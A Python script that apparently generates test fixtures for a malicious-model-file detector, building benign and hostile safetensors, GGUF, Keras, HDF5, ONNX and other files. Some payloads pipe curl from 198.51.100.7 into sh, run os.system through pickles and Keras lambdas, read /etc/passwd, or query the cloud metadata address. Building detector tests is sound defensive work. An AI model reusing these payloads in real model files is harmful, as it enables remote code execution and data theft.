"""Model files of all formats but Python pickling: benign ones as libraries write them, malicious ones of each published class. Bytes are written
here with the standard library alone. Holdout cases were written before the detector was run on anything and are not tuned on."""
import base64
import gzip
import json
import marshal
import pathlib
import random
import struct
import zipfile

import templates


# ---- protobuf
def varint(n):
    out = b""
    while True:
        b = n & 0x7F
        n >>= 7
        out += bytes([b | (0x80 if n else 0)])
        if not n:
            return out


def pb(*fields):
    """(number, value): int → varint, bytes/str → length-delimited."""
    out = b""
    for number, value in fields:
        if isinstance(value, int):
            out += varint(number << 3) + varint(value)
        else:
            value = value.encode() if isinstance(value, str) else value
            out += varint(number << 3 | 2) + varint(len(value)) + value
    return out


# ---- safetensors
def safetensors(tensors, data, meta=None, pad=True, raw=None):
    head = {}
    if meta:
        head["__metadata__"] = meta
    head.update(tensors)
    text = raw if raw is not None else json.dumps(head, separators=(",", ":")).encode()
    if pad:
        text += b" " * (-len(text) % 8)
    return struct.pack("<Q", len(text)) + text + data


def t(dtype, shape, begin, end):
    return {"dtype": dtype, "shape": shape, "data_offsets": [begin, end]}


# ---- gguf
def gstr(s):
    s = s.encode() if isinstance(s, str) else s
    return struct.pack("<Q", len(s)) + s


def kv(key, value):
    if isinstance(value, str):
        return gstr(key) + struct.pack("<I", 8) + gstr(value)
    if isinstance(value, bool):
        return gstr(key) + struct.pack("<IB", 7, value)
    if isinstance(value, int):
        return gstr(key) + struct.pack("<II", 4, value)
    if isinstance(value, float):
        return gstr(key) + struct.pack("<If", 6, value)
    if value and isinstance(value[0], str):
        return gstr(key) + struct.pack("<IIQ", 9, 8, len(value)) + b"".join(map(gstr, value))
    return gstr(key) + struct.pack("<IIQ", 9, 5, len(value)) + struct.pack("<%di" % len(value), *value)


def gguf(keys, tensors, data=None, version=3, n_tensors=None, n_keys=None, align=32, tail=b""):
    """tensors: (name, dims, type, offset)"""
    out = b"GGUF" + struct.pack("<IQQ", version, len(tensors) if n_tensors is None else n_tensors, len(keys) if n_keys is None else n_keys)
    out += b"".join(keys)
    for name, dims, kind, offset in tensors:
        out += gstr(name) + struct.pack("<I", len(dims)) + b"".join(struct.pack("<Q", d) for d in dims) + struct.pack("<IQ", kind, offset)
    out += b"\0" * (-len(out) % align)
    return out + (data if data is not None else b"") + tail


LLM = [kv("general.architecture", "llama"), kv("general.name", "Tiny"), kv("general.license", "apache-2.0"), kv("general.author", "someone"),
       kv("general.base_model.0.repo_url", "https://huggingface.co/org/base"), kv("general.datasets", ["org/data-a", "org/data-b"]),
       kv("llama.block_count", 2), kv("llama.rope.freq_base", 10000.0), kv("tokenizer.ggml.model", "gpt2"),
       kv("tokenizer.ggml.tokens", ["<s>", "</s>", "os", "system", "eval", "import"]), kv("tokenizer.ggml.token_type", [3, 3, 1, 1, 1, 1])]


def weights(n, seed=1):
    return random.Random(seed).randbytes(n)


# ---- zip
def zipped(members, method=zipfile.ZIP_STORED):
    import io
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", method) as z:
        for name, data in members:
            z.writestr(zipfile.ZipInfo(name, (2024, 5, 1, 0, 0, 0)), data, compress_type=method)
    return b.getvalue()


# ---- HDF5, superblock 0, version 1 headers, one level of groups by links in symbol tables
class H5:
    """Root group with attributes and datasets; enough for what loaders and attackers write."""

    def __init__(self):
        self.body = bytearray(96)

    def put(self, data):
        self.body += b"\0" * (-len(self.body) % 8)
        at = len(self.body)
        self.body += data
        return at

    @staticmethod
    def message(kind, data):
        data += b"\0" * (-len(data) % 8)
        return struct.pack("<HHB3x", kind, len(data), 0) + data

    def header(self, messages):
        raw = b"".join(messages)
        return self.put(struct.pack("<BBHII4x", 1, 0, len(messages), 1, len(raw)) + raw)

    def attribute(self, name, value, vlen=False):
        name = name.encode() + b"\0"
        value = value.encode() if isinstance(value, str) else value
        space = struct.pack("<BBB5x", 1, 0, 0)
        if vlen:
            size = 16 + len(value)
            heap = b"GCOL" + struct.pack("<B3xQ", 1, 4096 if size < 4000 else size + 64)
            heap += struct.pack("<HH4xQ", 1, 1, len(value)) + value + b"\0" * (-len(value) % 8)
            heap += b"\0" * ((4096 if size < 4000 else size + 64) - len(heap))
            at = self.put(heap)
            kind = struct.pack("<BBBBI", 0x19, 1, 0, 0, 16) + struct.pack("<BBBBI", 0x10, 0, 0, 0, 1) + struct.pack("<HH", 0, 8)
            data = struct.pack("<IQI", len(value), at, 1)
        else:
            kind = struct.pack("<BBBBI", 0x13, 0, 0, 0, max(len(value), 1))
            data = value

        def pad(b):
            return b + b"\0" * (-len(b) % 8)
        return self.message(0x0C, struct.pack("<BBHHH", 1, 0, len(name), len(kind), len(space)) + pad(name) + pad(kind) + pad(space) + data)

    def dataset(self, extra=(), layout=None):
        data = self.put(weights(64))
        return self.header([self.message(1, struct.pack("<BBB5xQ", 1, 1, 0, 16)), self.message(3, struct.pack("<BBBBI", 0x11, 0x20, 0x1F, 0, 4) + struct.pack("<HHBBBBI", 0, 32, 23, 8, 0, 23, 127)),
                            layout or self.message(8, struct.pack("<BBQQ", 3, 1, data, 64)), *extra])

    def local_heap(self, names):
        seg, offsets = bytearray(8), []
        for n in names:
            offsets.append(len(seg))
            seg += n.encode() + b"\0"
            seg += b"\0" * (-len(seg) % 8)
        at = self.put(bytes(seg))
        return self.put(b"HEAP" + struct.pack("<B3xQQQ", 0, len(seg), 1, at)), offsets

    def group(self, links, messages=()):
        heap, offsets = self.local_heap([name for name, _ in links])
        snod = b"SNOD" + struct.pack("<BBH", 1, 0, len(links))
        for (name, addr), off in zip(links, offsets):
            snod += struct.pack("<QQII16x", off, addr, 0, 0)
        node = self.put(snod)
        tree = self.put(b"TREE" + struct.pack("<BBHQQQQQ", 0, 0, 1, 2**64 - 1, 2**64 - 1, 0, node, offsets[-1] if offsets else 0))
        return self.header([self.message(0x11, struct.pack("<QQ", tree, heap)), *messages])

    def external_file(self, path):
        heap, offsets = self.local_heap([path])
        return self.message(7, struct.pack("<B3xHHQ", 1, 1, 1, heap) + struct.pack("<QQQ", offsets[0], 0, 64))

    def external_link(self, name, path):
        value = b"\0" + path.encode() + b"\0/x\0"
        return self.message(6, struct.pack("<BBB", 1, 8, 64) + bytes([len(name)]) + name.encode() + struct.pack("<H", len(value)) + value)

    def virtual(self, path):
        block = struct.pack("<BQ", 0, 1) + path.encode() + b"\0/x\0" + b"\0" * 40
        heap = b"GCOL" + struct.pack("<B3xQ", 1, 4096) + struct.pack("<HH4xQ", 1, 1, len(block)) + block
        at = self.put(heap + b"\0" * (4096 - len(heap)))
        return self.message(8, struct.pack("<BBQI", 4, 3, at, 1))

    def done(self, root):
        head = b"\x89HDF\r\n\x1a\n" + struct.pack("<BBBBBBBBHHI", 0, 0, 0, 0, 0, 8, 8, 0, 4, 16, 0)
        head += struct.pack("<QQQQ", 0, 2**64 - 1, len(self.body), 2**64 - 1) + struct.pack("<QQII16x", 0, root, 0, 0)
        self.body[: len(head)] = head
        return bytes(self.body)


def h5_model(config, vlen=True, training=None):
    h = H5()
    d = h.dataset()
    g = h.group([("kernel:0", d)])
    messages = [h.attribute("keras_version", "2.13.1"), h.attribute("backend", "tensorflow"), h.attribute("model_config", json.dumps(config), vlen)]
    if training:
        messages.append(h.attribute("training_config", json.dumps(training), vlen))
    return h.done(h.group([("model_weights", g)], messages))


# ---- Keras
def layer(name, klass, module="keras.layers", registered=None, **config):
    return {"module": module, "class_name": klass, "config": {"name": name, "trainable": True, **config}, "registered_name": registered}


def model(*layers):
    return {"module": "keras", "class_name": "Sequential", "config": {"name": "sequential", "layers": [
        layer("input_layer", "InputLayer", batch_shape=[None, 784], dtype="float32"),
        layer("dense", "Dense", units=64, activation="relu", kernel_initializer={"module": "keras.initializers", "class_name": "GlorotUniform", "config": {"seed": None}, "registered_name": None}),
        *layers, layer("dense_1", "Dense", units=10, activation="softmax")]}, "registered_name": None,
        "build_config": {"input_shape": [None, 784]},
        "compile_config": {"optimizer": {"module": "keras.optimizers", "class_name": "Adam", "config": {"learning_rate": 0.001}, "registered_name": None},
                           "loss": {"module": "keras.losses", "class_name": "SparseCategoricalCrossentropy", "config": {"from_logits": False}, "registered_name": None}, "metrics": ["accuracy"]}}


def weights_h5(*messages_of):
    h = H5()
    extra = [f(h) for f in messages_of]
    return h.done(h.group([("layers", h.group([("0", h.dataset())]))], extra))


def keras(config, weights_file=None, extra=()):
    return zipped([("metadata.json", json.dumps({"keras_version": "3.8.0", "date_saved": "2025-02-01@10:00:00"})), ("config.json", json.dumps(config)),
                   ("model.weights.h5", weights_file or weights_h5()), *extra])


def code(source):
    return base64.encodebytes(marshal.dumps(compile(source, "<lambda>", "eval").co_consts[0] if "lambda" in source else compile(source, "x", "exec"))).decode()


EVIL = code("lambda x: __import__('os').system('curl http://198.51.100.7/a | sh') or x")


def v3_lambda(text):
    return {"class_name": "__lambda__", "config": {"code": text, "defaults": None, "closure": None}}


# ---- TensorFlow
def attr(key, value):
    return (5, pb((1, key), (2, value)))


def node(name, op, inputs=(), *attrs):
    return (1, pb((1, name), (2, op), *[(3, i) for i in inputs], *attrs))


def const(name, text):
    return node(name, "Const", (), attr("dtype", pb((6, 7))), attr("value", pb((8, pb((1, 7), (2, b""), (8, text))))))


def const_f32(name, n=16):
    return node(name, "Const", (), attr("dtype", pb((6, 1))), attr("value", pb((8, pb((1, 1), (2, pb((2, pb((1, n))))), (4, weights(4 * n)))))))


USUAL = [node("x", "Placeholder", (), attr("dtype", pb((6, 1)))), const_f32("w"), node("y", "MatMul", ["x", "w"]), node("z", "Relu", ["y"]),
         const("save/filename", "/tmp/model"), node("save/ShardedFilename", "ShardedFilename", ["save/filename"]), node("save/SaveV2", "SaveV2", ["save/ShardedFilename"]),
         node("save/RestoreV2", "RestoreV2", ["save/filename"]), node("save/Merge", "MergeV2Checkpoints", ["save/ShardedFilename"])]


def graph_def(nodes, functions=()):
    lib = [(2, pb(*[(1, f) for f in functions]))] if functions else []
    return pb(*nodes, *lib, (4, pb((1, 987))))


def function_def(name, nodes):
    return pb((1, pb((1, name))), *[(3, n[1]) for n in nodes])


def saved_model(nodes, functions=(), assets=()):
    info = pb((4, "serve"), (5, "2.15.0"), (6, "v2.15.0-rc1-8-g6887368d6d4"))
    meta = pb((1, info), (2, graph_def(nodes, functions)), *[(6, pb((1, pb((1, "a:0"))), (2, a))) for a in assets])
    return pb((1, 1), (2, meta))


# ---- ONNX
def tensor(name, dims, raw=None, external=None, kind=1):
    f = [(1, d) for d in dims] + [(2, kind), (8, name)]
    if external:
        f += [(13, pb((1, k), (2, v))) for k, v in external] + [(14, 1)]
    else:
        f += [(9, raw if raw is not None else weights(4))]
    return pb(*f)


def onode(op, domain="", attrs=(), name="n"):
    return (1, pb((1, "x"), (2, "y"), (3, name), (4, op), *[(5, a) for a in attrs], *([(7, domain)] if domain else [])))


def onnx(nodes=(), tensors=(), functions=(), props=(), extra=()):
    io = pb((1, "x"), (2, pb((1, pb((1, 1), (2, pb((1, pb((1, 4))))))))))
    g = pb(*nodes, (2, "main_graph"), *[(5, x) for x in tensors], (11, io), (12, io))
    return pb((1, 8), (2, "pytorch"), (3, "2.1.0"), (7, g), (8, pb((1, ""), (2, 17))), *[(14, pb((1, k), (2, v))) for k, v in props], *[(25, f) for f in functions], *extra)


ONODES = [onode("MatMul", name="mm"), onode("Relu", name="act"), onode("Constant", attrs=[pb((1, "value"), (5, tensor("c", [1])), (20, 4))], name="c")]


# ---- flatbuffers, built front to back
def tflite(custom=(), buffers=(b"\1\2\3\4" * 16,), description="MLIR Converted.", ident=b"TFL3"):
    out = bytearray(8)

    def align(n=4):
        out.extend(b"\0" * (-len(out) % n))

    def string(s):
        align()
        at = len(out)
        s = s.encode() if isinstance(s, str) else s
        out.extend(struct.pack("<I", len(s)) + s + b"\0")
        return at

    def table(fields):
        """slots → ("i8"|"i32"|"off", value); offsets are to things already written, so the table is written with relative back references made absolute later"""
        align()
        n = max(fields) + 1 if fields else 0
        vt = len(out)
        size, slots = 4, [0] * n
        for s, (kind, _) in sorted(fields.items()):
            slots[s] = size
            size += 4
        out.extend(struct.pack("<HH", 4 + 2 * n, size) + b"".join(struct.pack("<H", o) for o in slots))
        align()
        at = len(out)
        out.extend(struct.pack("<i", at - vt) + b"\0" * (size - 4))
        for s, (kind, value) in fields.items():
            if kind == "off":
                fix.append((at + slots[s], value))
            else:
                struct.pack_into("<b" if kind == "i8" else "<i", out, at + slots[s], value)
        return at

    def vector(items):
        align()
        at = len(out)
        out.extend(struct.pack("<I", len(items)) + b"\0" * 4 * len(items))
        fix.extend((at + 4 + 4 * i, item) for i, item in enumerate(items))
        return at

    fix = []
    # Forward references only: the root first, children behind. Two passes by recording what must come later.
    def later(make):
        pending.append(make)
        return len(pending) - 1
    pending = []
    codes = [("ADD", 0, None), ("FULLY_CONNECTED", 9, None)] + [("CUSTOM", 32, c) for c in custom]
    fields = {0: ("i32", 3), 1: ("off", "codes"), 3: ("off", "desc"), 4: ("off", "buffers")}
    root = table(fields)
    places = {}
    places["codes"] = vector([("code", i) for i in range(len(codes))])
    for i, (_, number, name) in enumerate(codes):
        f = {0: ("i8", min(number, 127)), 2: ("i32", 1), 3: ("i32", number)}
        if name:
            f[1] = ("off", ("name", i))
        places[("code", i)] = table(f)
    for i, (_, _, name) in enumerate(codes):
        if name:
            places[("name", i)] = string(name)
    places["desc"] = string(description)
    places["buffers"] = vector([("buffer", i) for i in range(len(buffers))])
    for i in range(len(buffers)):
        places[("buffer", i)] = table({0: ("off", ("data", i))})
    for i, b in enumerate(buffers):
        places[("data", i)] = string(b)
    for at, key in fix:
        struct.pack_into("<I", out, at, places[key] - at)
    struct.pack_into("<I", out, 0, root)
    out[4:8] = ident
    return bytes(out)


# ---- R, XDR
class R:
    def __init__(self):
        self.refs = {}

    def i(self, n):
        return struct.pack(">i", n)

    def char(self, s):
        return self.i(0x00040009) + self.i(len(s)) + s.encode()

    def sym(self, s):
        if s in self.refs:
            return self.i(self.refs[s] << 8 | 255)
        self.refs[s] = len(self.refs) + 1
        return self.i(1) + self.char(s)

    def strs(self, *s):
        return self.i(16) + self.i(len(s)) + b"".join(map(self.char, s))

    def reals(self, *v):
        return self.i(14) + self.i(len(v)) + struct.pack(">%dd" % len(v), *v)

    NIL = struct.pack(">i", 254)
    GLOBAL = struct.pack(">i", 253)
    UNBOUND = struct.pack(">i", 252)
    BASE = struct.pack(">i", 241)

    def lang(self, f, *args):
        return self.i(6) + (self.sym(f) if isinstance(f, str) else f) + b"".join(self.i(2) + a for a in args) + self.NIL

    def pairs(self, *named):
        return b"".join(self.i(0x402) + self.sym(n) + v for n, v in named) + self.NIL

    def vec(self, items, names=None):
        out = self.i(19 | (0x200 if names else 0)) + self.i(len(items)) + b"".join(items)
        return out + (self.pairs(("names", self.strs(*names))) if names else b"")

    def closure(self, body):
        return self.i(0x403) + self.GLOBAL + self.NIL + body

    def promise(self, expr, value=None):
        return self.i(5 | (0x400 if value is None else 0)) + (self.GLOBAL if value is None else b"") + (value or self.UNBOUND) + expr

    def env(self, frame):
        self.refs[object()] = len(self.refs) + 1
        return self.i(4) + self.i(0) + self.GLOBAL + frame + self.NIL + self.NIL

    def file(self, item, workspace=False):
        body = b"X\n" + self.i(3) + self.i(0x040301) + self.i(0x030500) + self.i(5) + b"UTF-8" + item
        return (b"RDX3\n" if workspace else b"") + body


def rdata(build, workspace=False, packed=True):
    r = R()
    raw = r.file(build(r), workspace)
    return gzip.compress(raw, mtime=0) if packed else raw


def lm(r):
    call = r.lang("lm", r.lang("~", r.sym("y"), r.sym("x")), r.sym("df"))
    helper = r.closure(r.lang("{", r.lang("eval", r.sym("expr")), r.lang("do.call", r.strs("rbind"), r.sym("l")), r.lang("parse", r.sym("t"))))
    return r.vec([r.reals(1.0, 2.5), call, helper, r.strs("a", "b")], ["coefficients", "call", "predict", "levels"])


# ---- CoreML
def coreml(*fields):
    meta = pb((1, "Classifies flowers"), (3, "Someone"), (4, "MIT"), (100, pb((1, "com.github.apple.coremltools.version"), (2, "7.1"))))
    feature = pb((1, "image"), (3, pb((4, pb((1, 224), (2, 224))))))
    return pb((1, 5), (2, pb((1, feature), (10, feature), (100, meta))), *fields)


def network(*layers):
    return pb(*[(1, x) for x in layers])


PMML = """<?xml version="1.0" encoding="UTF-8"?>
%s<PMML xmlns="http://www.dmg.org/PMML-4_4" xmlns:data="http://jpmml.org/jpmml-model/InlineTable" version="4.4">
<Header copyright="Apache-2.0"><Application name="SkLearn2PMML package" version="0.90.4"/><Timestamp>2024-05-01T10:00:00Z</Timestamp></Header>
<DataDictionary><DataField name="x1" optype="continuous" dataType="double"/><DataField name="y" optype="categorical" dataType="string"/></DataDictionary>
<TransformationDictionary><DefineFunction name="clip" optype="continuous"><ParameterField name="v"/><Apply function="%s"><FieldRef field="v"/><Constant>0</Constant></Apply></DefineFunction></TransformationDictionary>
%s
<TreeModel functionName="classification"><MiningSchema><MiningField name="x1"/></MiningSchema><Node score="a"><True/></Node></TreeModel>
</PMML>
"""
IR = """<?xml version="1.0"?>
%s<net name="torch_jit" version="11">
<layers><layer id="0" name="x" type="Parameter" version="opset1"><data shape="1,3,224,224" element_type="f32"/></layer>
<layer id="1" name="w" type="Const" version="opset1"><data element_type="f32" shape="10" offset="0" size="40"/></layer>
<layer id="2" name="m" type="MatMul" version="opset1"/>%s<layer id="9" name="r" type="Result" version="opset1"/></layers>
<edges><edge from-layer="0" from-port="0" to-layer="2" to-port="0"/></edges>
<meta_data><MO_version value="2023.2.0"/></meta_data><rt_info><Runtime_version value="2024.0"/></rt_info>
</net>
"""

SKOPS = {"__class__": "LogisticRegression", "__module__": "sklearn.linear_model._logistic", "__loader__": "ObjectNode", "content": {
    "__class__": "dict", "__module__": "builtins", "__loader__": "DictNode", "content": {"C": {"__class__": "str", "__module__": "builtins", "__loader__": "JsonNode", "content": "1.0", "is_json": True},
    "coef_": {"__class__": "ndarray", "__module__": "numpy", "__loader__": "NdArrayNode", "type": "numpy", "file": "140.npy"}}}, "protocol": 2, "_skops_version": "0.11.0"}


def npy():
    head = b"{'descr': '<f8', 'fortran_order': False, 'shape': (4,), }"
    head += b" " * (-(len(head) + 11) % 64) + b"\n"
    return b"\x93NUMPY\1\0" + struct.pack("<H", len(head)) + head + weights(32)


def skops(schema):
    return zipped([("140.npy", npy()), ("schema.json", json.dumps(schema))], zipfile.ZIP_DEFLATED)


def ape(members, head=b"MZqFpD='\n"):
    stub = head + b"\n" * 4096
    return stub + zipped(members)


def tuples():
    """(name, bytes, malicious, class, holdout)"""
    d4 = weights(64)
    ok = {"a.weight": t("F32", [4, 2], 0, 32), "b.weight": t("BF16", [16], 32, 64)}
    yield from safetensors_cases(ok, d4)
    yield from gguf_cases()
    yield from template_cases()
    yield from keras_cases()
    yield from tensorflow_cases()
    yield from onnx_cases()
    yield from other_cases()
    yield from config_cases()


def safetensors_cases(ok, d4):
    b, m = False, True
    pickle = b"\x80\x04\x95\x1f\0\0\0\0\0\0\0\x8c\x05posix\x8c\x06system\x93\x8c\x02id\x85R."
    yield "ok.safetensors", safetensors(ok, d4, {"format": "pt"}), b, "plain", False
    yield "lora.safetensors", safetensors(ok, d4, {"ss_sd_model_name": "v1-5.safetensors", "ss_tag_frequency": json.dumps({"1_x": {"exec": 4, "eval": 2}}), "modelspec.author": "me", "modelspec.license": "MIT"}), b, "metadata", False
    yield "empty.safetensors", safetensors({}, b""), b, "plain", False
    yield "zero_dim.safetensors", safetensors({"a": t("F32", [0, 4], 0, 0), "s": t("F32", [], 0, 4)}, b"\0\0\x80?"), b, "plain", False
    yield "f8.safetensors", safetensors({"a": t("F8_E4M3", [64], 0, 64)}, d4), b, "plain", True
    yield "f4.safetensors", safetensors({"a": t("F4", [128], 0, 64)}, d4), b, "plain", True
    yield "unsorted.safetensors", safetensors(dict(reversed(list(ok.items()))), d4), b, "plain", True
    yield "unicode.safetensors", safetensors({"層.重み\"q": t("I8", [64], 0, 64)}, d4), b, "plain", True
    yield "nopad.safetensors", safetensors(ok, d4, pad=False), b, "plain", False
    yield "many.safetensors", safetensors({"l%d" % i: t("F32", [1], 4 * i, 4 * i + 4) for i in range(3000)}, weights(12000)), b, "plain", False
    yield "overlap.safetensors", safetensors({"a": t("F32", [16], 0, 64), "b": t("F32", [8], 32, 64)}, d4), m, "overlap", False
    yield "hole.safetensors", safetensors({"a": t("F32", [4], 0, 16), "b": t("F32", [4], 48, 64)}, d4[:16] + pickle[:32].ljust(32, b".") + d4[48:]), m, "hole", False
    yield "tail_pickle.safetensors", safetensors(ok, d4 + pickle), m, "trailing", False
    yield "tail_zip.safetensors", safetensors(ok, d4) + zipped([("archive/data.pkl", pickle)]), m, "polyglot", False
    yield "in_tensor_zip.safetensors", (lambda z: safetensors({"a": t("U8", [len(z)], 0, len(z))}, z))(zipped([("archive/data.pkl", pickle)])), m, "polyglot", True
    yield "tail_elf.safetensors", safetensors(ok, d4 + b"\x7fELF\2\1\1" + weights(200)), m, "trailing", True
    yield "header_huge.safetensors", struct.pack("<Q", 1 << 62) + b'{"a":' + d4, m, "header length", False
    yield "header_200m.safetensors", struct.pack("<Q", 200 << 20) + b'{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}' + d4, m, "header length", True
    yield "dup.safetensors", safetensors({}, d4, raw=b'{"a":{"dtype":"F32","shape":[16],"data_offsets":[0,64]},"a":{"dtype":"F32","shape":[16],"data_offsets":[0,64]}}'), m, "duplicate key", False
    yield "product.safetensors", safetensors({"a": t("F32", [1 << 40, 1 << 40], 0, 64)}, d4), m, "overflow", False
    yield "mismatch.safetensors", safetensors({"a": t("F32", [1000], 0, 64)}, d4), m, "size mismatch", False
    yield "beyond.safetensors", safetensors({"a": t("F32", [1 << 30], 0, 4 << 30)}, d4), m, "out of range", True
    yield "reversed.safetensors", safetensors({"a": t("U8", [64], 64, 0)}, d4), m, "out of range", True
    yield "padding.safetensors", safetensors({}, d4, raw=json.dumps({"a": t("U8", [64], 0, 64)}).encode() + b"  " + pickle), m, "header padding", False
    yield "meta_object.safetensors", safetensors({"__metadata__": {"x": {"y": [1]}}, **ok}, d4), m, "metadata type", True


def gguf_cases():
    b, m = False, True
    data = weights(128)
    two = [("a", [16], 0, 0), ("b", [16], 0, 64)]
    tmpl = kv("tokenizer.chat_template", templates.LLAMA31)
    yield "ok.gguf", gguf(LLM + [tmpl], two, data), b, "plain", False
    yield "v2.gguf", gguf(LLM, two, data, version=2), b, "plain", False
    be = b"GGUF" + struct.pack(">IQQ", 3, 1, 1) + struct.pack(">Q", 20) + b"general.architecture" + struct.pack(">IQ", 8, 4) + b"gpt2" + struct.pack(">Q", 1) + b"a" + struct.pack(">IQIQ", 1, 32, 0, 0)
    yield "be.gguf", be + b"\0" * (-len(be) % 32) + data, b, "plain", True
    v1 = b"GGUF" + struct.pack("<III", 1, 1, 1) + struct.pack("<I", 20) + b"general.architecture" + struct.pack("<II", 8, 4) + b"gpt2" + struct.pack("<I", 1) + b"a" + struct.pack("<IIIQ", 1, 32, 0, 0)
    yield "v1.gguf", v1 + b"\0" * (-len(v1) % 32) + data, b, "plain", True
    q4k = [("blk.0.ffn", [256, 2], 12, 0)]
    yield "q4k.gguf", gguf(LLM, q4k, weights(288)), b, "quantised", False
    for name, kind, size in (("iq2", 16, 66), ("tq1", 34, 54), ("iq1m", 29, 56), ("iq4xs", 23, 136)):
        yield name + ".gguf", gguf(LLM, [("t", [256], kind, 0)], weights(size) + b"\0" * (-size % 32)), b, "quantised", True
    yield "mxfp4.gguf", gguf(LLM, [("t", [32, 64], 39, 0)], weights(17 * 64)), b, "quantised", True
    yield "align64.gguf", gguf([kv("general.alignment", 64)] + LLM, [("a", [16], 0, 0), ("b", [16], 0, 64)], data, align=64), b, "plain", False
    yield "vocab_only.gguf", gguf(LLM, [], b""), b, "plain", False
    yield "many_tokens.gguf", gguf(LLM[:-2] + [kv("tokenizer.ggml.tokens", ["t%d" % i for i in range(20000)])], two, data), b, "plain", False
    for name in ("mro", "cycler", "tilde", "trigger_login", "h_octal", "h_date_var"):
        yield "t_%s.gguf" % name, gguf(LLM + [kv("tokenizer.chat_template", templates.HOSTILE[name])], two, data), m, "template", name.startswith("h_")
    yield "t_variant.gguf", gguf(LLM + [tmpl, kv("tokenizer.chat_template.tool_use", templates.HOSTILE["lipsum"])], two, data), m, "template variant", False
    long = templates.CHATML + "{# " + "padding " * 20000 + "#}" + templates.HOSTILE["self"]
    yield "t_long.gguf", gguf(LLM + [kv("tokenizer.chat_template", long)], two, data), m, "template", True
    yield "n_tensors.gguf", gguf(LLM, two, data, n_tensors=1 << 60), m, "counts", False
    yield "n_keys.gguf", gguf(LLM, two, data, n_keys=1 << 61), m, "counts", False
    yield "str_len.gguf", gguf(LLM + [gstr("x.y") + struct.pack("<IQ", 8, (1 << 64) - 1)], two, data), m, "string length", False
    yield "arr_len.gguf", gguf(LLM + [gstr("x.y") + struct.pack("<IIQ", 9, 4, 1 << 62)], two, data), m, "array length", False
    yield "arr_type.gguf", gguf(LLM + [gstr("x.y") + struct.pack("<IIQ", 9, 77, 1)], two, data), m, "array type", True
    yield "dims.gguf", gguf(LLM, [("a", [1] * 9, 0, 0)], data), m, "dimensions", False
    yield "product.gguf", gguf(LLM, [("a", [1 << 33, 1 << 33], 0, 0)], data), m, "overflow", False
    yield "align0.gguf", gguf([kv("general.alignment", 0)] + LLM, two, data), m, "alignment", False
    yield "overlap.gguf", gguf(LLM, [("a", [16], 0, 0), ("b", [16], 0, 32)], data), m, "overlap", False
    yield "beyond.gguf", gguf(LLM, [("a", [1 << 24], 0, 0)], data), m, "out of range", True
    yield "offset.gguf", gguf(LLM, [("a", [16], 0, (1 << 64) - 32)], data), m, "out of range", True
    yield "dupkey.gguf", gguf(LLM + [kv("general.architecture", "x")], two, data), m, "duplicate key", True
    yield "tail.gguf", gguf(LLM, two, data, tail=b"#!/bin/sh\ncurl http://198.51.100.7/x | sh\n" + b"#" * 64), m, "trailing", False
    yield "polyglot.gguf", gguf(LLM, two, data, tail=zipped([("data.pkl", b"cos\nsystem\n(S'id'\ntR.")])), m, "polyglot", True


def template_cases():
    for name, text in templates.BENIGN.items():
        hold = name.startswith("h_")
        yield "tok_%s/tokenizer_config.json" % name, json.dumps({"add_bos_token": True, "added_tokens_decoder": {str(i): {"content": "<t%d>" % i} for i in range(200)}, "bos_token": "<s>", "chat_template": text, "tokenizer_class": "LlamaTokenizer"}).encode(), False, "template", hold
        yield "jinja_%s/chat_template.jinja" % name, text.encode(), False, "template", hold
    for name, text in templates.HOSTILE.items():
        hold = name.startswith("h_")
        yield "tok_m_%s/tokenizer_config.json" % name, json.dumps({"bos_token": "<s>", "chat_template": text, "tokenizer_class": "LlamaTokenizer"}).encode(), True, "template", hold
        yield "jinja_m_%s/chat_template.jinja" % name, text.encode("utf-8", "surrogatepass"), True, "template", hold
    yield "tok_list/tokenizer_config.json", json.dumps({"chat_template": [{"name": "default", "template": templates.CHATML}, {"name": "tool_use", "template": templates.HERMES}]}).encode(), False, "template", False
    yield "tok_list_m/tokenizer_config.json", json.dumps({"chat_template": [{"name": "default", "template": templates.CHATML}, {"name": "tool_use", "template": templates.HOSTILE["hexattr"]}]}).encode(), True, "template", False
    yield "proc/chat_template.json", json.dumps({"chat_template": templates.VISION}).encode(), False, "template", True
    yield "proc_m/chat_template.json", json.dumps({"chat_template": templates.HOSTILE["h_slice"]}).encode(), True, "template", True


def keras_cases():
    b, m = False, True
    yield "ok.keras", keras(model()), b, "plain", False
    yield "norm.keras", keras(model(layer("n", "Normalization", axis=-1), layer("d", "Dropout", rate=0.5), layer("lookup", "StringLookup", vocabulary=["a", "b"], max_tokens=None))), b, "plain", False
    yield "custom.keras", keras(model(layer("mine", "MyBlock", None, "my_pkg>MyBlock", units=3))), b, "custom object", False
    yield "nlp.keras", keras(model(layer("b", "BertBackbone", "keras_nlp.src.models.bert.bert_backbone", "keras_nlp>BertBackbone"))), b, "plain", True
    yield "fnloss.keras", keras({**model(), "compile_config": {"loss": {"module": "builtins", "class_name": "function", "config": "my_loss", "registered_name": "function"}}}), b, "plain", True
    yield "tf_layer.keras", keras(model(layer("r", "Resizing", height=2, width=2), {"module": "keras.src.ops.numpy", "class_name": "Add", "config": {"name": "add"}, "registered_name": "Add"})), b, "plain", True
    yield "lambda.keras", keras(model(layer("l", "Lambda", function=v3_lambda(EVIL), arguments={}))), m, "lambda", False
    yield "import_os.keras", keras(model(layer("x", "system", "os", "system"))), m, "CVE-2025-1550", False
    yield "fn_os.keras", keras(model(layer("l", "Lambda", function={"module": "os", "class_name": "function", "config": "system", "registered_name": "system"}, arguments={"command": "id"}))), m, "CVE-2025-1550", False
    yield "get_file.keras", keras(model(layer("l", "Lambda", function={"module": "keras.utils", "class_name": "function", "config": "get_file", "registered_name": "get_file"}, arguments={"origin": "https://198.51.100.7/x", "extract": True, "cache_dir": "/root"}))), m, "CVE-2025-8747", False
    yield "unsafe.keras", keras(model({"module": "keras.config", "class_name": "function", "config": "enable_unsafe_deserialization", "registered_name": "enable_unsafe_deserialization"})), m, "CVE-2025-9906", False
    yield "torchwrap.keras", keras(model(layer("t", "TorchModuleWrapper", "keras.src.utils.torch_utils", None, torch_module="gASVIQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=="))), m, "CVE-2025-49655", False
    yield "vocab_file.keras", keras(model(layer("s", "StringLookup", vocabulary="/etc/passwd"))), m, "CVE-2025-12058", False
    yield "vocab_url.keras", keras(model(layer("s", "TextVectorization", vocabulary="http://169.254.169.254/latest/meta-data/"))), m, "CVE-2025-12058", True
